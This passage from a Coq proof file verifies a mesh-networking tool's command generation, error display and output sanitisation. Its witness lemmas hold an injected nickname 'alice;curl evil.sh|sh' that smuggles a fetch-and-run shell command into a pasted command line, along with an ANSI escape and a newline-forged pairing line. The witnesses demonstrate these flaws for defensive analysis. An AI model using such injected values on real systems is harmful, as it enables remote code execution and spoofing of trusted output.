      change (char_count ellipsis) with 1. unfold META_CHARS in *. lia.
Qed.

(** The lookup of a mount's target says nothing exactly when the first peer of that name shares
    the service. *)
Lemma use_target_spec peer service peers :
  use_target_error peer service peers = None <->
  exists p, find_first (fun p => bool_decide (pi_name p = peer)) peers = Some p /\ service ∈ pi_services p.
Proof.
  unfold use_target_error. destruct (find_first _ peers) as [p|]; [|split; [done|by intros (? & ? & _)]]. case_bool_decide as Hs.
  - split; [|done]. intros _. by exists p.
  - split; [done|]. intros (p' & [= <-] & ?). done.
Qed.

(** The machine's face of [use] offers the commands the lines do, and its targets mount: each
    splits back into the peer and the service, unless the peer's name has a slash. *)
Lemma use_json_mirrors `{J : SerdeJson} desktop peer services s :
  s ∈ services ->
  ("  " +:+ claude_code_command peer s)%string ∈ client_instruction_lines desktop peer services /\
  (Org.has_slash peer = false -> peer <> ""%string -> s <> ""%string -> split_target (mount_target peer s) = Ok (peer, s)).
Proof.
  intros Hs. split.
  - unfold client_instruction_lines. destruct services as [|first rest]; [by apply elem_of_nil in Hs|].
    rewrite !elem_of_app. right. left. apply list_elem_of_fmap. by exists s.
  - intros Hn Hp He. by apply target_addresses.
Qed.

(** ** Witnesses *)
Module Witness.
(** The commands to paste carry the inviter's nickname as it came. *)
Lemma pasted_command_forged :
  claude_code_command "alice;curl evil.sh|sh" "notes" =
    "claude mcp add alice;curl evil.sh|sh-notes -- mcpmesh connect alice;curl evil.sh|sh/notes"%string.
Proof. reflexivity. Qed.

#[local] Instance any_params : ParamsCodec := {| params_error _ _ := None |}.
Definition failing : Handlers :=
  {| h_mesh := true; h_run _ _ := Err {| ce_kind := KNoSuchService; ce_msg := "no such service: notes" |}; h_join := None |}.
Definition revoke : Value := VObject [("method"%string, VString "service_allow_revoke")].
Definition err : Value := default VNull (value_get "error" (handle_request failing revoke)).
Definition context : Cause := {| ca_text := "revoke the grant"; ca_api := None |}.
Definition api : Cause := {| ca_text := "control API error"; ca_api := Some err |}.
Lemma daemon_error_shown_witness : error_lines context [api] = ["Error: no such service: notes"]%string.
Proof.
  assert (He : value_get "error" (handle_request failing revoke) = Some err) by (vm_compute; reflexivity).
  destruct (daemon_error_shown failing revoke err context [api] He eq_refl) as [_ H].
  refine (proj1 (H "service_allow_revoke"%string ServiceAllowRevoke {| ce_kind := KNoSuchService; ce_msg := "no such service: notes" |} _ _ _ _ _ _ _ _));
    [vm_compute; reflexivity..|discriminate|vm_compute; reflexivity|vm_compute; split; discriminate|discriminate].
Defined.

Definition escape : string := from_bytes [Byte.x1b; Byte.x5b; Byte.x32; Byte.x4a; Byte.xc2; Byte.x9b; Byte.x78].
Lemma meta_inert_witness : utf8 (as_bytes escape) = true /\ has_control (as_bytes escape) = true /\ has_control (as_bytes (sanitize_meta escape)) = false.
Proof. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|]. exact (proj1 (meta_inert escape eq_refl)). Defined.

Definition paired (nickname sas : string) : RecentPairing :=
  {| rp_peer_nickname := nickname; rp_sas_code := Some sas; rp_paired_at_epoch := 1000; rp_self_enroll := false |}.
Definition printed (l : list string) : string := String.concat newline_text l.
(** A nickname is the other side's word for itself and is printed as it came: one with a newline
    in it prints, above the true code, the line of a pairing that never was. *)
Definition forged : string := "alice · code: amber-falcon-47 · just now" +:+ newline_text +:+ "  guest".
Lemma forged_pairing_line :
  starts_with (printed (recent_pairing_lines [paired "alice" "amber-falcon-47"] 1000) +:+ newline_text)
    (printed (recent_pairing_lines [paired forged "quiet-otter-12"] 1000)) = true /\
  is_ok (validated_alias "as_nickname" (Some forged)) = false.
Proof. split; vm_compute; reflexivity. Qed.

Example expiry_shown : (fun s => friendly_expiry (1000 + s) 1000) <$> [86398; 45 * 60; 59] = ["in 24h"; "in 45m"; "soon"]%string.
Proof. vm_compute. reflexivity. Qed.
Example suspend_shown : humanise_secs <$> [89; 5399; 7260] = ["89s"; "89m"; "2h1m"]%string.
Proof. vm_compute. reflexivity. Qed.
End Witness.
